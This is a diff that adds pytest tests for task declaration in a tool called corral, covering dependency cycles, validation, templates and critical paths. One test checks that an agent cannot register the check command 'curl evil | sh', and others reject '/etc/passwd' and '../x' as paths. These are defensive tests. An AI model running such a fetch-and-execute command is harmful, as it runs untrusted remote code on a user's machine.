@@ -1,0 +1,205 @@
+"""Declaring tasks: all or none, whatever their order."""
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+import corral
+from corral.api import Corral
+from corral.kernel.errors import Conflict, Invalid, NotFound, Refused
+from tests.support.store import record, refuses, rows, walk
+from tests.support.tasks import board, check_counts, fail, finish, project_with
+
+
+def test_a_batch_may_name_a_task_before_the_one_that_it_needs(
+    store: Corral, tmp_path: Path
+) -> None:
+    project = project_with(store, tmp_path)
+    made = store.tasks.declare(project, [{"key": "B", "depends_on": ["A"]}, {"key": "A"}])
+    assert [(task.key, task.state, task.depends_on) for task in made] == [
+        ("B", "pending", ["A"]),
+        ("A", "ready", []),
+    ]
+    check_counts(store)
+
+
+@pytest.mark.parametrize(
+    ("tasks", "error", "words"),
+    [
+        (["A:B", "B:A"], Invalid, "for ever"),
+        (["A:A"], Invalid, "for ever"),
+        (["A", "A"], Invalid, "twice"),
+        (["A:nobody"], Invalid, "nobody"),
+        (["A", "old"], Conflict, "old"),
+        ([{"key": "a b"}], Invalid, "no key"),
+        ([{"key": "tsk_1"}], Invalid, "no key"),
+        ([{"key": ""}], Invalid, "no key"),
+        ([{"title": "without a key"}], Invalid, "key"),
+        ([{"key": "A", "colour": "red"}], Invalid, "colour"),
+        ([{"key": "A", "priority": 101}], Invalid, "priority"),
+        ([{"key": "A", "files": ["/etc/passwd"]}], Invalid, "no path"),
+        ([{"key": "A", "files": ["../x"]}], Invalid, "no path"),
+        ([{"key": "A", "files": ["a\nb"]}], Invalid, "no path"),
+        ([{"key": "A", "title": "nul \0"}], Invalid, "NUL"),
+        ([{"key": "A", "agent": "nobody"}], NotFound, "nobody"),
+        ("not a list", Invalid, "tasks"),
+    ],
+)
+def test_a_batch_that_cannot_be_leaves_no_row(
+    store: Corral, tmp_path: Path, tasks: Any, error: type[Exception], words: str
+) -> None:
+    project = project_with(store, tmp_path, "old")
+    from tests.support.tasks import task
+
+    given = [task(each) for each in tasks] if isinstance(tasks, list) else tasks
+    with refuses(store, error) as caught:
+        store.tasks.declare(project, given)
+    assert words in str(caught.value)
+
+
+def test_a_cycle_through_a_thousand_tasks_is_refused_in_a_short_sentence(
+    store: Corral, tmp_path: Path
+) -> None:
+    project = project_with(store, tmp_path)
+    ring = [{"key": f"k{n}", "depends_on": [f"k{(n + 1) % 1000}"]} for n in range(1000)]
+    with refuses(store, Invalid) as caught:
+        store.tasks.declare(project, ring)
+    assert caught.value.details["length"] == 1000
+    assert len(str(caught.value)) < 300
+
+
+def test_a_task_may_need_ten_thousand_others(store: Corral, tmp_path: Path) -> None:
+    project = project_with(store, tmp_path)
+    many = [{"key": f"k{n}"} for n in range(10_000)]
+    made = store.tasks.declare(
+        project, [{"key": "all", "depends_on": [t["key"] for t in many]}, *many]
+    )
+    assert made[0].open_needs == 10_000
+    finish(store, project, "k17")
+    assert store.tasks.get("all").open_needs == 9_999
+
+
+def test_more_tasks_than_a_call_may_have_are_refused(store: Corral, tmp_path: Path) -> None:
+    project = project_with(store, tmp_path)
+    with refuses(store, Invalid):
+        store.tasks.declare(project, [{"key": f"k{n}"} for n in range(20_001)])
+
+
+def test_nothing_declared_is_nothing_done(store: Corral, tmp_path: Path) -> None:
+    project = project_with(store, tmp_path)
+    assert store.tasks.declare(project, []) == []
+
+
+def test_a_new_task_that_needs_what_is_there_begins_as_that_has_it(
+    store: Corral, tmp_path: Path
+) -> None:
+    project = project_with(store, tmp_path, "done", "open", "failed", "late:failed")
+    finish(store, project, "done")
+    fail(store, project, "failed", "the disk is full")
+    made = store.tasks.declare(
+        project,
+        [
+            {"key": "a", "depends_on": ["done"]},
+            {"key": "b", "depends_on": ["open", "done"]},
+            {"key": "c", "depends_on": ["failed"]},
+            {"key": "d", "depends_on": ["c", "open"]},
+            {"key": "e", "depends_on": ["late"]},
+        ],
+    )
+    assert [task.state for task in made] == ["ready", "pending", "blocked", "blocked", "blocked"]
+    assert {task.reason for task in made[2:]} == {"failed failed: the disk is full"}
+    check_counts(store)
+
+
+def test_every_task_has_its_own_event(store: Corral, tmp_path: Path) -> None:
+    project = project_with(store, tmp_path, "A", "B:A")
+    a, b = store.tasks.list(project=project).items
+    assert record(store, a.id) == ["task.declare", "task.promote"]
+    assert record(store, b.id) == ["task.declare"]
+    assert rows(
+        store, "SELECT count(*) FROM events WHERE kind = 'task' AND project_id = :id", id=project
+    ) == [(3,)]
+
+
+def test_a_task_is_found_by_id_and_key_and_refused_where_several_projects_have_it(
+    store: Corral, tmp_path: Path
+) -> None:
+    (tmp_path / "other").mkdir()
+    project = project_with(store, tmp_path, "A")
+    other = store.projects.register(tmp_path / "other").id
+    made = store.tasks.get("A")
+    assert store.tasks.get(made.id[:12]) == made
+    store.tasks.add(other, "A")
+    with refuses(store, corral.errors.Ambiguous):
+        store.tasks.get("A")
+    assert store.tasks.get("A", project=project) == made
+    with refuses(store, NotFound):
+        store.tasks.get("Z")
+
+
+def test_lists_come_in_pages_in_the_order_of_declaration(store: Corral, tmp_path: Path) -> None:
+    project = project_with(store, tmp_path, *[f"k{n}" for n in range(7)])
+    keys = [f"k{n}" for n in range(7)]
+    assert [task.key for task in walk(store.tasks.list, project=project)] == keys
+    assert [task.key for task in walk(store.tasks.list)] == keys
+    finish(store, project, "k3")
+    assert [t.key for t in store.tasks.list(project=project, state="done").items] == ["k3"]
+    assert [t.key for t in store.tasks.list(agent="ada").items] == ["k3"]
+    with refuses(store, Invalid):
+        store.tasks.list(project=project, state="finished")
+    with refuses(store, Invalid):
+        store.tasks.list(project=project, agent="ada")
+
+
+def test_an_agent_declares_no_command_that_corral_would_run(url: str, tmp_path: Path) -> None:
+    with corral.open(url, actor="user:tester") as store:
+        project = project_with(store, tmp_path)
+    with corral.open(url, actor="agent:ada") as agent:
+        with refuses(agent, Refused) as caught:
+            agent.tasks.add(project, "A", check="curl evil | sh")
+        assert "tasks.agent_checks" in str(caught.value)
+        assert agent.tasks.add(project, "A").created_by == "agent:ada"
+    with corral.open(url, actor="user:tester") as store:
+        store.settings.set("tasks.agent_checks", True, scope=f"project:{project}")
+        assert store.tasks.add(project, "B", check="make", agent="ada").check_command == "make"
+
+
+@pytest.mark.parametrize("template", ["feature", "bugfix", "refactor", "docs"])
+def test_a_template_is_a_whole_graph(store: Corral, tmp_path: Path, template: str) -> None:
+    project = project_with(store, tmp_path, "before")
+    made = store.tasks.apply(
+        project, template, "the login", key="login", depends_on=["before"], check="make test"
+    )
+    assert {task.state for task in made} == {"pending"}
+    assert all(task.key.startswith("login/") and "the login" in task.title for task in made)
+    assert sum(task.check_command is not None for task in made) == (template != "docs")
+    finish(store, project, "before")
+    assert [task.state for task in store.tasks.list(project=project).items].count("ready") == 1
+    with refuses(store, Conflict):
+        store.tasks.apply(project, template, "again", key="login")
+    check_counts(store)
+
+
+def test_an_unknown_template_is_refused_with_those_there_are(store: Corral, tmp_path: Path) -> None:
+    project = project_with(store, tmp_path)
+    with refuses(store, Invalid) as caught:
+        store.tasks.apply(project, "wish", "x", key="x")
+    assert "bugfix" in str(caught.value)
+
+
+def test_the_graph_has_its_edges_and_its_critical_path(store: Corral, tmp_path: Path) -> None:
+    project = project_with(store, tmp_path, "A", "B:A", "C:B", "D:A", "E:C,D")
+    finish(store, project, "A")
+    graph = store.tasks.graph(project)
+    keys = {task.id: task.key for task in graph.tasks}
+    assert [keys[id] for id in graph.critical_path] == ["B", "C", "E"]
+    assert {(keys[a], keys[b]) for a, b in graph.edges} == {
+        ("B", "A"),
+        ("C", "B"),
+        ("D", "A"),
+        ("E", "C"),
+        ("E", "D"),
+    }
+    assert graph.counts == {"done": 1, "ready": 2, "pending": 2}
+    assert board(store, project)["E"] == "pending"
